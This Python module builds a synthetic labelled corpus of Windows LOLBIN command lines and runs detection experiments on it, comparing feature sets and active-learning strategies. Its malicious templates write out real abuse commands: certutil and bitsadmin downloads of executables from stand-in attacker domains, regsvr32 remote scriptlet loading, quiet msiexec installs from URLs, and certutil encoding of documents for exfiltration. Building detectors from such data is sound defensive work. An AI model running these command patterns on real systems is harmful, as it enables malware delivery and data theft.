"""Synthetic labeled LOLBIN corpus and the experiment harness.

Real command-line telemetry cannot ship with the repository, so the
experiments run on a generated corpus. Each class draws from a set of
command templates: the malicious families instantiate the classic abuse
patterns of the five binaries (remote downloads, base64 decodes, remote
.sct scriptlets, quiet installs from URLs, project-file builds), and the
benign families instantiate administrator and developer activity using
the same binaries. A tunable fraction of samples comes from deliberately
ambiguous "hard" families that sit near the benign/malicious boundary,
and some malicious families are rare, novel-looking variants.

Class proportions default to Benign 454, Bitsadmin 159, Certutil 1043,
Msbuild 33, Msiexec 92, Regsvr32 206 (scalable), so the corpus keeps the
strong imbalance the detection problem actually has. Generation is fully
deterministic per seed.
"""

from __future__ import annotations

import csv
import dataclasses
import json
import os
from dataclasses import dataclass, field
from typing import Callable, Sequence

import numpy as np

from .active_learning import STRATEGIES, ActiveLearningLoop, oracle_labeler
from .classifiers import BoostedHyper, fit_forest_classifier, predict_batch, compute_metrics, stratified_kfold
from .embeddings import FASTTEXT, WORD2VEC, EmbeddingConfig, train_embeddings
from .featurize import FEATURE_SETS, MODE_S, FeatureMatrixBuilder
from .token_scores import build_score_table
from .tokenizer import CLASSES, RawSample, build_vocabulary, normalize, tokenize

DEFAULT_CLASS_COUNTS = {
    "Benign": 454,
    "BitsadminLolbin": 159,
    "CertutilLolbin": 1043,
    "MsbuildLolbin": 33,
    "MsiexecLolbin": 92,
    "Regsvr32Lolbin": 206,
}


@dataclass
class CorpusSpec:
    class_counts: dict = field(default_factory=lambda: dict(DEFAULT_CLASS_COUNTS))
    scale: float = 1.0
    unlabeled_size: int = 2000
    rare_rate: float = 0.3
    hard_fraction: float = 0.2
    seed: int = 0

    def scaled_counts(self) -> dict:
        return {
            cls: max(1, int(round(count * self.scale)))
            for cls, count in self.class_counts.items()
            if count > 0
        }

    def to_dict(self) -> dict:
        return dataclasses.asdict(self)

    @classmethod
    def from_dict(cls, payload: dict) -> "CorpusSpec":
        return cls(**payload)


# ---------------------------------------------------------------------------
# slot pools

BENIGN_DOMAINS = ("updates.contoso.com", "downloads.vendorsoft.com",
                  "cdn.devtools.io", "mirror.pkgsource.net", "assets.buildtools.org")
EVIL_DOMAINS = ("files.dropzone.ru", "cdn.bestfiles.xyz", "download.quickhost.biz",
                "static.filebin.cc", "drop.grayzone.pw")
GRAY_DOMAINS = ("data.cloudsync.net", "files.sharespace.io")
EVIL_IPS = ("192.168.83.2", "10.14.88.71", "185.220.101.44", "45.133.1.87")
BENIGN_STEMS = ("plugin", "toolchain", "devpack", "sdk-setup", "framework", "runtime", "codecs")
EVIL_STEMS = ("invoice-scan", "update-check", "photo-view", "flash-fix", "doc-reader", "svc-host")
USERS = ("admin", "jsmith", "build", "svc-deploy", "mtorres", "akhan")
PRODUCTS = ("officekit", "visualsuite", "netmonitor", "dataplatform", "buildtools")
PROJECTS = ("webportal", "dataservice", "reporting", "gateway", "pipeline")
ASSEMBLIES = ("serialization", "applicationservices", "datasetextensions", "webhost", "jetbrains")

_HEXCHARS = "0123456789abcdef"


class _Slots:
    """Deterministic slot filler around one generator."""

    def __init__(self, rng: np.random.Generator, rare_rate: float):
        self.rng = rng
        self.rare_rate = rare_rate

    def pick(self, pool: Sequence[str]) -> str:
        return pool[int(self.rng.integers(len(pool)))]

    def num(self, lo: int = 1, hi: int = 99999) -> str:
        return str(int(self.rng.integers(lo, hi)))

    def hexstem(self, n: int = 8) -> str:
        return "".join(_HEXCHARS[int(self.rng.integers(16))] for _ in range(n))

    def stem(self, pool: Sequence[str]) -> str:
        # rare-token injection: sometimes a one-off gibberish stem
        if self.rng.random() < self.rare_rate:
            return self.hexstem()
        return self.pick(pool)

    def user(self) -> str:
        return self.pick(USERS)


# ---------------------------------------------------------------------------
# template families: each returns (lolbin, parent_cmdline, child_cmdline)

def _certutil_urlcache_mal(s: _Slots):
    stem = s.stem(EVIL_STEMS)
    return ("Certutil", "cmd.exe /c",
            f"certutil -urlcache -split -f http://{s.pick(EVIL_DOMAINS)}/{stem}.exe "
            f"c:\\users\\{s.user()}\\appdata\\local\\temp\\{s.hexstem(6)}.exe")


def _certutil_decode_mal(s: _Slots):
    return ("Certutil", "powershell.exe -nop -w hidden -c",
            f"certutil -decode c:\\users\\{s.user()}\\appdata\\roaming\\{s.stem(EVIL_STEMS)}.b64 "
            f"c:\\users\\{s.user()}\\appdata\\roaming\\{s.hexstem(6)}.exe")


def _certutil_encode_exfil(s: _Slots):
    # novel low-volume variant: staging data for exfiltration
    return ("Certutil", f"wscript.exe c:\\users\\{s.user()}\\appdata\\run{s.num(1, 99)}.vbs",
            f"certutil -encode c:\\users\\{s.user()}\\documents\\export{s.num(1, 999)}.db "
            f"c:\\programdata\\{s.hexstem(10)}.tmp")


def _certutil_urlcache_gray_mal(s: _Slots):
    # boundary case: same verb as the benign cache fetch, hostile payload
    return ("Certutil", "cmd.exe /c",
            f"certutil -urlcache -split -f https://{s.pick(GRAY_DOMAINS)}/{s.stem(EVIL_STEMS)}.exe "
            f"c:\\users\\{s.user()}\\downloads\\{s.stem(BENIGN_STEMS)}.exe")


def _certutil_hashfile_benign(s: _Slots):
    return ("Certutil", "cmd.exe /c",
            f"certutil -hashfile c:\\users\\{s.user()}\\downloads\\{s.stem(BENIGN_STEMS)}-{s.num(1, 20)}.msi sha256")


def _certutil_verify_benign(s: _Slots):
    return ("Certutil", "services.exe",
            f"certutil -verify c:\\program files\\{s.pick(PRODUCTS)}\\certs\\{s.stem(BENIGN_STEMS)}.cer")


def _certutil_install_benign(s: _Slots):
    return ("Certutil", "explorer.exe",
            f"certutil -addstore root c:\\program files\\{s.pick(PRODUCTS)}\\install\\ca-{s.num(1, 50)}.crt")


def _certutil_urlcache_gray_benign(s: _Slots):
    # admins do fetch caches over https from vendor mirrors
    return ("Certutil", "cmd.exe /c",
            f"certutil -urlcache -split -f https://{s.pick(BENIGN_DOMAINS)}/{s.stem(BENIGN_STEMS)}.cab "
            f"c:\\users\\{s.user()}\\downloads\\{s.stem(BENIGN_STEMS)}.cab")


def _bitsadmin_transfer_mal(s: _Slots):
    stem = s.stem(EVIL_STEMS)
    return ("Bitsadmin", "cmd.exe /c",
            f"bitsadmin /transfer {s.hexstem(7)} /download /priority high "
            f"http://{s.pick(EVIL_DOMAINS)}/{stem}.exe c:\\users\\{s.user()}\\appdata\\local\\temp\\{s.num(10000, 99999999)}.exe")


def _bitsadmin_chain_mal(s: _Slots):
    job = s.num(1, 9)
    return ("Bitsadmin", "powershell.exe -nop -w hidden -c",
            f"bitsadmin /create {job} & bitsadmin /addfile {job} https://{s.pick(EVIL_DOMAINS)}/{s.stem(EVIL_STEMS)}.exe "
            f"c:\\{s.hexstem(5)}.exe & bitsadmin /resume {job} & bitsadmin /complete {job}")


def _bitsadmin_notify_mal(s: _Slots):
    # novel variant: job completion runs an arbitrary command
    job = s.hexstem(6)
    return ("Bitsadmin", "cmd.exe /c",
            f"bitsadmin /create {job} & bitsadmin /setnotifycmdline {job} "
            f"c:\\users\\{s.user()}\\appdata\\local\\temp\\{s.stem(EVIL_STEMS)}.exe null & bitsadmin /resume {job}")


def _bitsadmin_list_benign(s: _Slots):
    return ("Bitsadmin", "cmd.exe /c", f"bitsadmin /list /allusers /verbose")


def _bitsadmin_plugin_benign(s: _Slots):
    return ("Bitsadmin", "svchost.exe -k netsvcs",
            f"bitsadmin /transfer downloadjob{s.num(1, 99)} /download /priority normal "
            f"https://{s.pick(BENIGN_DOMAINS)}/ie/{s.stem(BENIGN_STEMS)}.cab "
            f"c:\\program files\\{s.pick(PRODUCTS)}\\plugin\\{s.stem(BENIGN_STEMS)}.cab")


def _bitsadmin_installer_gray_benign(s: _Slots):
    # hard case: an exe fetched over http, but from the vendor mirror
    return ("Bitsadmin", "cmd.exe /c",
            f"bitsadmin /transfer update{s.num(1, 999)} /download /priority high "
            f"http://{s.pick(BENIGN_DOMAINS)}/{s.stem(BENIGN_STEMS)}.exe c:\\users\\{s.user()}\\downloads\\setup.exe")


def _regsvr32_remote_sct_mal(s: _Slots):
    return ("Regsvr32", "cmd.exe /c",
            f"regsvr32.exe /s /u /i:http://{s.pick(EVIL_DOMAINS)}/{s.stem(EVIL_STEMS)}.sct scrobj.dll")


def _regsvr32_local_sct_mal(s: _Slots):
    return ("Regsvr32", f"winword.exe /n c:\\users\\{s.user()}\\downloads\\invoice{s.num(1, 999)}.docm",
            f"regsvr32.exe /s /u /i:c:\\users\\{s.user()}\\appdata\\local\\temp\\{s.hexstem(6)}.sct scrobj.dll")


def _regsvr32_dll_mal(s: _Slots):
    # novel variant: registering a dropped dll silently
    return ("Regsvr32", "powershell.exe -nop -w hidden -c",
            f"regsvr32 /s c:\\users\\{s.user()}\\appdata\\roaming\\{s.hexstem(9)}.dll")


def _regsvr32_component_benign(s: _Slots):
    return ("Regsvr32", "msiexec.exe /v",
            f"regsvr32 /s c:\\program files\\common files\\{s.pick(PRODUCTS)}\\{s.stem(ASSEMBLIES)}.dll")


def _regsvr32_unregister_benign(s: _Slots):
    return ("Regsvr32", "explorer.exe",
            f"regsvr32 /u /s c:\\program files\\{s.pick(PRODUCTS)}\\legacy\\{s.stem(ASSEMBLIES)}{s.num(1, 9)}.ocx")


def _regsvr32_gray_benign(s: _Slots):
    # hard case: silent re-register out of a user profile (installer repair)
    return ("Regsvr32", "cmd.exe /c",
            f"regsvr32 /s c:\\users\\{s.user()}\\appdata\\local\\{s.pick(PRODUCTS)}\\{s.stem(ASSEMBLIES)}.dll")


def _msiexec_remote_mal(s: _Slots):
    ext = s.pick(("jpeg", "png", "msi", "gif"))
    return ("Msiexec", "cmd.exe /c",
            f"msiexec /q /i http://{s.pick(EVIL_IPS)}/{s.stem(EVIL_STEMS)}.{ext}")


def _msiexec_dropped_mal(s: _Slots):
    return ("Msiexec", f"wscript.exe c:\\users\\{s.user()}\\appdata\\stage{s.num(1, 99)}.js",
            f"msiexec /quiet /i c:\\users\\{s.user()}\\appdata\\local\\temp\\{s.hexstem(7)}.msi")


def _msiexec_unregister_mal(s: _Slots):
    # novel variant: DllUnregisterServer execution of a dropped dll
    return ("Msiexec", "cmd.exe /c",
            f"msiexec /z c:\\users\\{s.user()}\\appdata\\local\\temp\\{s.hexstem(8)}.dll")


def _msiexec_install_benign(s: _Slots):
    return ("Msiexec", "explorer.exe",
            f"msiexec /i c:\\users\\{s.user()}\\downloads\\{s.pick(PRODUCTS)}-{s.num(1, 12)}-amd64.msi /qn /norestart")


def _msiexec_uninstall_benign(s: _Slots):
    guid = f"{s.hexstem(8)}-{s.hexstem(4)}-{s.hexstem(4)}-{s.hexstem(12)}"
    return ("Msiexec", "services.exe", f"msiexec /x {{{guid}}} /quiet /norestart")


def _msiexec_intranet_gray_benign(s: _Slots):
    # hard case: quiet install straight from the software share
    return ("Msiexec", "cmd.exe /c",
            f"msiexec /q /i https://{s.pick(BENIGN_DOMAINS)}/apps/{s.pick(PRODUCTS)}-{s.num(1, 30)}.msi")


def _msbuild_xml_mal(s: _Slots):
    return ("Msbuild", "cmd.exe /c",
            f"msbuild.exe c:\\users\\{s.user()}\\appdata\\local\\temp\\pshell{s.num(1, 99)}.xml")


def _msbuild_proj_mal(s: _Slots):
    return ("Msbuild", "powershell.exe -nop -w hidden -c",
            f"msbuild.exe c:\\users\\{s.user()}\\appdata\\roaming\\{s.hexstem(6)}.csproj /p:platform={s.pick(('x86', 'x64'))}")


def _msbuild_sln_benign(s: _Slots):
    return ("Msbuild", s.pick(("devenv.exe", "rider64.exe")),
            f"msbuild.exe c:\\source\\repos\\{s.pick(PROJECTS)}\\{s.pick(PROJECTS)}.sln "
            f"/t:rebuild /p:configuration=release /p:outdir=c:\\builds\\releases\\{s.num(100, 9999)}")


def _msbuild_csproj_benign(s: _Slots):
    return ("Msbuild", "cmd.exe /c",
            f"msbuild.exe c:\\source\\repos\\{s.pick(PROJECTS)}\\src\\{s.pick(ASSEMBLIES)}.csproj /t:build /p:configuration=debug")


def _msbuild_gray_benign(s: _Slots):
    # hard case: a build kicked off from a scripted checkout under the profile
    return ("Msbuild", "powershell.exe -c",
            f"msbuild.exe c:\\users\\{s.user()}\\source\\{s.pick(PROJECTS)}\\build.xml /p:configuration=release")


# (weight, builder) per class; hard families listed separately
_CORE_FAMILIES: dict[str, list[tuple[float, Callable]]] = {
    "CertutilLolbin": [
        (0.5, _certutil_urlcache_mal),
        (0.38, _certutil_decode_mal),
        (0.12, _certutil_encode_exfil),
    ],
    "BitsadminLolbin": [
        (0.55, _bitsadmin_transfer_mal),
        (0.3, _bitsadmin_chain_mal),
        (0.15, _bitsadmin_notify_mal),
    ],
    "Regsvr32Lolbin": [
        (0.55, _regsvr32_remote_sct_mal),
        (0.3, _regsvr32_local_sct_mal),
        (0.15, _regsvr32_dll_mal),
    ],
    "MsiexecLolbin": [
        (0.55, _msiexec_remote_mal),
        (0.3, _msiexec_dropped_mal),
        (0.15, _msiexec_unregister_mal),
    ],
    "MsbuildLolbin": [
        (0.6, _msbuild_xml_mal),
        (0.4, _msbuild_proj_mal),
    ],
    "Benign": [
        (0.2, _certutil_hashfile_benign),
        (0.12, _certutil_verify_benign),
        (0.08, _certutil_install_benign),
        (0.1, _bitsadmin_list_benign),
        (0.12, _bitsadmin_plugin_benign),
        (0.1, _regsvr32_component_benign),
        (0.06, _regsvr32_unregister_benign),
        (0.1, _msiexec_install_benign),
        (0.06, _msiexec_uninstall_benign),
        (0.04, _msbuild_sln_benign),
        (0.02, _msbuild_csproj_benign),
    ],
}

_HARD_FAMILIES: dict[str, list[tuple[float, Callable]]] = {
    "CertutilLolbin": [(1.0, _certutil_urlcache_gray_mal)],
    "BitsadminLolbin": [(1.0, _bitsadmin_transfer_mal)],
    "Regsvr32Lolbin": [(1.0, _regsvr32_local_sct_mal)],
    "MsiexecLolbin": [(1.0, _msiexec_dropped_mal)],
    "MsbuildLolbin": [(1.0, _msbuild_proj_mal)],
    "Benign": [
        (0.35, _certutil_urlcache_gray_benign),
        (0.25, _bitsadmin_installer_gray_benign),
        (0.15, _regsvr32_gray_benign),
        (0.15, _msiexec_intranet_gray_benign),
        (0.1, _msbuild_gray_benign),
    ],
}


def _pick_family(families, rng: np.random.Generator) -> Callable:
    weights = np.array([w for w, _ in families])
    weights = weights / weights.sum()
    r = rng.random()
    acc = 0.0
    for (_, fn), w in zip(families, weights):
        acc += w
        if r <= acc:
            return fn
    return families[-1][1]


def _gen_sample(cls: str, sid: str, slots: _Slots, hard_fraction: float) -> RawSample:
    rng = slots.rng
    if hard_fraction > 0 and rng.random() < hard_fraction:
        fn = _pick_family(_HARD_FAMILIES[cls], rng)
    else:
        fn = _pick_family(_CORE_FAMILIES[cls], rng)
    lolbin, parent, child = fn(slots)
    return RawSample(sid, parent, child, lolbin=lolbin, label=cls)


def generate_corpus(spec: CorpusSpec) -> tuple[list[RawSample], list[RawSample]]:
    """Labeled set and unlabeled pool; every sample carries its true label.

    The unlabeled pool's labels are ground truth for the oracle and the
    metrics only; the learner must never read them.
    """
    rng = np.random.default_rng(spec.seed)
    slots = _Slots(rng, spec.rare_rate)
    labeled: list[RawSample] = []
    counts = spec.scaled_counts()
    i = 0
    for cls in CLASSES:
        for _ in range(counts.get(cls, 0)):
            labeled.append(_gen_sample(cls, f"L{i:05d}", slots, spec.hard_fraction))
            i += 1

    class_list = [c for c in CLASSES if counts.get(c, 0) > 0]
    probs = np.array([counts[c] for c in class_list], dtype=float)
    probs /= probs.sum()
    unlabeled: list[RawSample] = []
    for j in range(spec.unlabeled_size):
        cls = class_list[int(rng.choice(len(class_list), p=probs))]
        unlabeled.append(_gen_sample(cls, f"U{j:05d}", slots, spec.hard_fraction))
    return labeled, unlabeled


def truth_map(samples: Sequence[RawSample]) -> dict:
    return {s.sample_id: s.label for s in samples}


def strip_labels(samples: Sequence[RawSample]) -> list[RawSample]:
    return [dataclasses.replace(s, label=None) for s in samples]


# ---------------------------------------------------------------------------
# experiment: feature representation benchmark


@dataclass
class FeatureEvalReport:
    results: dict  # (embedding_mode, feature_mode) -> fold metrics summary
    folds: int
    notes: list = field(default_factory=list)

    def macro_f1(self, embedding_mode: str, feature_mode: str) -> float:
        return self.results[(embedding_mode, feature_mode)]["macro_f1_mean"]

    def to_dict(self) -> dict:
        return {
            "version": 1,
            "kind": "feature_eval_report",
            "folds": self.folds,
            "notes": self.notes,
            "results": [
                {"embedding": emb, "features": feat, **summary}
                for (emb, feat), summary in self.results.items()
            ],
        }

    def write_json(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(self.to_dict(), fh, indent=2)

    def write_csv(self, path: str) -> None:
        with open(path, "w", newline="", encoding="utf-8") as fh:
            writer = csv.writer(fh)
            writer.writerow([
                "embedding", "features", "precision", "recall", "f1", "fpr", "accuracy", "f1_sd",
            ])
            for (emb, feat), s in self.results.items():
                writer.writerow([
                    emb, feat,
                    f"{s['macro_precision_mean']:.4f}", f"{s['macro_recall_mean']:.4f}",
                    f"{s['macro_f1_mean']:.4f}", f"{s['macro_fpr_mean']:.4f}",
                    f"{s['accuracy_mean']:.4f}", f"{s['macro_f1_sd']:.4f}",
                ])


def run_feature_eval(
    labeled: Sequence[RawSample],
    modes: Sequence[str] = FEATURE_SETS,
    embedding_modes: Sequence[str] = (FASTTEXT, WORD2VEC),
    folds: int = 10,
    seed: int = 0,
    embedding_corpus: Sequence[RawSample] | None = None,
    embedding_config: EmbeddingConfig | None = None,
    n_trees: int = 20,
) -> FeatureEvalReport:
    """Stratified cross-validation of feature sets and embedding modes.

    The token score table is rebuilt per fold from the training folds only,
    so test-fold scores reflect genuinely unseen tokens. Classes smaller
    than the fold count shrink it (recorded in the report notes).
    """
    labeled = list(labeled)
    y = np.array([s.label for s in labeled])
    notes = []
    counts: dict[str, int] = {}
    for v in y:
        counts[v] = counts.get(v, 0) + 1
    if not counts:
        raise ValueError("empty corpus")
    smallest = min(counts.values())
    if smallest < folds:
        notes.append(f"fold count reduced from {folds} to {smallest} (smallest class)")
        folds = smallest

    emb_samples = list(labeled) + (list(embedding_corpus) if embedding_corpus else [])
    vocab = build_vocabulary(emb_samples, min_count=5)
    seqs = [normalize(tokenize(s), vocab) for s in emb_samples]

    base_config = embedding_config or EmbeddingConfig(seed=seed)
    results = {}
    for emb_mode in embedding_modes:
        config = dataclasses.replace(base_config, mode=emb_mode)
        emb = train_embeddings(seqs, config)
        builder = FeatureMatrixBuilder(labeled, emb, vocab)
        fold_indices = stratified_kfold(y, folds, seed=seed)
        fold_metrics: dict[str, list] = {m: [] for m in modes}
        for f, (train_idx, test_idx) in enumerate(fold_indices):
            table = build_score_table(
                [labeled[i] for i in train_idx], emb, vocab, n_trees=n_trees, seed=seed + f,
            )
            for mode in modes:
                if mode == MODE_S:
                    X = builder.build_score_features(table)
                else:
                    X = builder.build(table, mode=mode)
                model = fit_forest_classifier(
                    X[train_idx], y[train_idx], n_trees=n_trees, seed=seed + f,
                )
                pred, _ = predict_batch(model, X[test_idx])
                fold_metrics[mode].append(
                    compute_metrics(list(y[test_idx]), pred, CLASSES)
                )
        for mode in modes:
            ms = fold_metrics[mode]
            f1s = [m.macro_f1 for m in ms]
            results[(emb_mode, mode)] = {
                "macro_precision_mean": float(np.mean([m.macro_precision for m in ms])),
                "macro_recall_mean": float(np.mean([m.macro_recall for m in ms])),
                "macro_f1_mean": float(np.mean(f1s)),
                "macro_f1_sd": float(np.std(f1s)),
                "macro_fpr_mean": float(np.mean([m.macro_fpr for m in ms])),
                "accuracy_mean": float(np.mean([m.accuracy for m in ms])),
            }
    return FeatureEvalReport(results=results, folds=folds, notes=notes)


# ---------------------------------------------------------------------------
# experiment: active-learning strategy comparison


@dataclass
class ALExperimentReport:
    strategies: list
    iterations: int
    runs: int
    batch_size: int
    seed_label_count: int
    histories: dict  # strategy -> list[run] -> list[metric records]
    snapshots: tuple = (5, 10, 15, 20, 30)

    def curve(self, strategy: str, path: str) -> tuple[np.ndarray, np.ndarray]:
        """Mean and sd across runs of a dotted metric path, per iteration."""
        runs = self.histories[strategy]
        n_iters = min(len(h) for h in runs)
        values = np.empty((len(runs), n_iters))
        for r, history in enumerate(runs):
            for i in range(n_iters):
                record = history[i]
                value = record
                for part in path.split("."):
                    value = value[part]
                values[r, i] = value
        return values.mean(axis=0), values.std(axis=0)

    def per_class_curve(self, strategy: str, cls: str, metric: str) -> np.ndarray:
        """Mean across runs; undefined per-class values count as 0."""
        runs = self.histories[strategy]
        n_iters = min(len(h) for h in runs)
        values = np.zeros((len(runs), n_iters))
        for r, history in enumerate(runs):
            for i in range(n_iters):
                entry = history[i]["per_class"].get(cls)
                values[r, i] = entry[metric] if entry else 0.0
        return values.mean(axis=0)

    def to_dict(self) -> dict:
        return {
            "version": 1,
            "kind": "al_experiment_report",
            "strategies": list(self.strategies),
            "iterations": self.iterations,
            "runs": self.runs,
            "batch_size": self.batch_size,
            "seed_label_count": self.seed_label_count,
            "snapshots": list(self.snapshots),
            "histories": self.histories,
        }

    def write_json(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(self.to_dict(), fh)

    def write_curves_csv(self, path: str) -> None:
        metrics = [
            ("macro_f1", "macro.f1"),
            ("macro_precision", "macro.precision"),
            ("macro_recall", "macro.recall"),
            ("macro_fpr", "macro.fpr"),
            ("accuracy", "accuracy"),
        ]
        with open(path, "w", newline="", encoding="utf-8") as fh:
            writer = csv.writer(fh)
            writer.writerow(["iteration", "strategy", "metric", "mean", "sd"])
            for strategy in self.strategies:
                for name, path_ in metrics:
                    mean, sd = self.curve(strategy, path_)
                    for i in range(len(mean)):
                        writer.writerow([i, strategy, name, f"{mean[i]:.6f}", f"{sd[i]:.6f}"])

    def write_snapshot_csv(self, path: str) -> None:
        """Per-class precision and %TP at the snapshot iterations."""
        classes = [c for c in CLASSES if c != "Benign"]
        with open(path, "w", newline="", encoding="utf-8") as fh:
            writer = csv.writer(fh)
            writer.writerow(["strategy", "class", "iteration", "precision", "tp_rate"])
            for strategy in self.strategies:
                for cls in classes:
                    prec = self.per_class_curve(strategy, cls, "precision")
                    rec = self.per_class_curve(strategy, cls, "recall")
                    for it in self.snapshots:
                        if it < len(prec):
                            writer.writerow([
                                strategy, cls, it, f"{prec[it]:.4f}", f"{rec[it]:.4f}",
                            ])

    def write(self, outdir: str) -> None:
        os.makedirs(outdir, exist_ok=True)
        self.write_json(os.path.join(outdir, "report.json"))
        self.write_curves_csv(os.path.join(outdir, "curves.csv"))
        self.write_snapshot_csv(os.path.join(outdir, "per_class.csv"))


def draw_seed_labels(
    samples: Sequence[RawSample], truth: dict, count: int, rng: np.random.Generator
) -> dict:
    """Random starting labels, redrawn until at least two classes appear."""
    ids = [s.sample_id for s in samples]
    while True:
        chosen = [ids[i] for i in rng.permutation(len(ids))[:count]]
        labels = {sid: truth[sid] for sid in chosen}
        if len(set(labels.values())) >= 2:
            return labels


def run_al_experiment(
    labeled_corpus: Sequence[RawSample],
    strategies: Sequence[str] = STRATEGIES,
    iterations: int = 50,
    batch_size: int = 5,
    seed_label_count: int = 10,
    runs: int = 5,
    seed: int = 0,
    embedding_corpus: Sequence[RawSample] | None = None,
    embedding_config: EmbeddingConfig | None = None,
    boosted_hyper: BoostedHyper | None = None,
    score_trees: int = 20,
    checkpoint_dir: str | None = None,
) -> ALExperimentReport:
    """Replay the labeling campaign under several sampling strategies.

    Each run r draws its own random starting labels (shared across
    strategies so the comparison is paired) and replays ``iterations`` + 1
    rounds against the ground-truth oracle; the extra round only
    contributes the final evaluation point, so history entry k is the
    model trained on seed + k*batch labels. Embeddings are trained once,
    unsupervised, and shared by all runs.
    """
    labeled_corpus = list(labeled_corpus)
    truth = truth_map(labeled_corpus)
    if any(v is None for v in truth.values()):
        raise ValueError("experiment corpus must carry ground-truth labels")
    pool = strip_labels(labeled_corpus)

    emb_samples = list(labeled_corpus) + (list(embedding_corpus) if embedding_corpus else [])
    vocab = build_vocabulary(emb_samples, min_count=5)
    seqs = [normalize(tokenize(s), vocab) for s in emb_samples]
    config = embedding_config or EmbeddingConfig(mode=FASTTEXT, seed=seed)
    emb = train_embeddings(seqs, config)

    hyper = boosted_hyper or BoostedHyper(n_stages=40, max_depth=3, learning_rate=0.3)
    seed_sets = [
        draw_seed_labels(pool, truth, seed_label_count, np.random.default_rng((seed, r)))
        for r in range(runs)
    ]

    histories: dict[str, list] = {s: [] for s in strategies}
    for strategy in strategies:
        for r in range(runs):
            loop = ActiveLearningLoop(
                pool, dict(seed_sets[r]), emb, vocab,
                strategy=strategy, seed=seed + r,
                boosted_hyper=hyper, score_trees=score_trees, truth=truth,
            )
            checkpoint = (
                os.path.join(checkpoint_dir, f"{strategy}-run{r}.state.json")
                if checkpoint_dir else None
            )
            loop.run(oracle_labeler(truth), iterations + 1, batch_size, checkpoint)
            histories[strategy].append(loop.state.metrics_history)

    return ALExperimentReport(
        strategies=list(strategies),
        iterations=iterations,
        runs=runs,
        batch_size=batch_size,
        seed_label_count=seed_label_count,
        histories=histories,
    )
